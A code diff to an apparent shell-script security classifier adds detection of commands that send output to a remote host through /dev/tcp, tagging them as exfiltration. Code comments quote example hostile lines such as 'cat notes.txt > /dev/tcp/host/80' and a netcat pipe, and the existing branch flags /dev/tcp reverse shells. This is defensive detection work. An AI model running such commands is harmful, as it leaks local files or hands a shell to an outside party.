@@ -306,6 +306,13 @@ export function wordFetches(w: Word, acc: Acc): ScriptInfo {
 
 const WRITE_OPS = new Set([">", ">>", ">|", "&>", "&>>", "<>"]);
 
+/** `echo hello`, `printf 'x\n'`: a command whose output is only its own literal words (nothing local is sent). */
+function printsOnlyLiterals(cmd: Command): boolean {
+  const name = cmd.words[0]?.value;
+  if (name !== "echo" && name !== "printf") return false;
+  return cmd.words.every((w) => !w.expanded && w.subs.length === 0 && !w.procSub);
+}
+
 function classifyRedirect(r: Redirect, acc: Acc, depth: number, cmd: Command): void {
   if (r.target) subsOf(r.target, acc, depth);
   for (const s of r.bodySubs ?? []) classifyScript(s, acc, depth + 1);
@@ -319,6 +326,12 @@ function classifyRedirect(r: Redirect, acc: Acc, depth: number, cmd: Command): v
     if (["bash", "sh", "zsh", "dash", "ksh"].includes(name) || r.op === ">&" || r.op === "&>" || r.op === "<>") {
       acc.tag(TAGS.remote_exec);
       acc.find(`connects a shell to ${host || "a remote host"} through /dev/tcp (a reverse shell)`);
+    } else if (WRITE_OPS.has(r.op) && !printsOnlyLiterals(cmd)) {
+      // `cat notes.txt > /dev/tcp/host/80`: the command's output goes to that host, as through `| nc host 80`.
+      acc.tag(TAGS.exfiltration);
+      acc.find(
+        `sends the output of ${name || "the command"} to ${host || "a remote host"} through ${path.split("/").slice(0, 3).join("/")}`,
+      );
     }
     return;
   }
